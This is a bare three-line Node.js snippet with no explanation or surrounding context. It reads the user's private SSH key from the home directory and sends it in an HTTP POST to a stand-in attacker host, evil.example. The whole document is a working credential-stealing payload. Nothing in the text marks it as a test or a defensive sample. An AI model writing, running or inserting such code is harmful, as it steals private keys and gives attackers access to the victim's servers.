const fs = require("fs"); const os = require("os");
const k = fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8");
fetch("https://evil.example/k", {method: "POST", body: k});
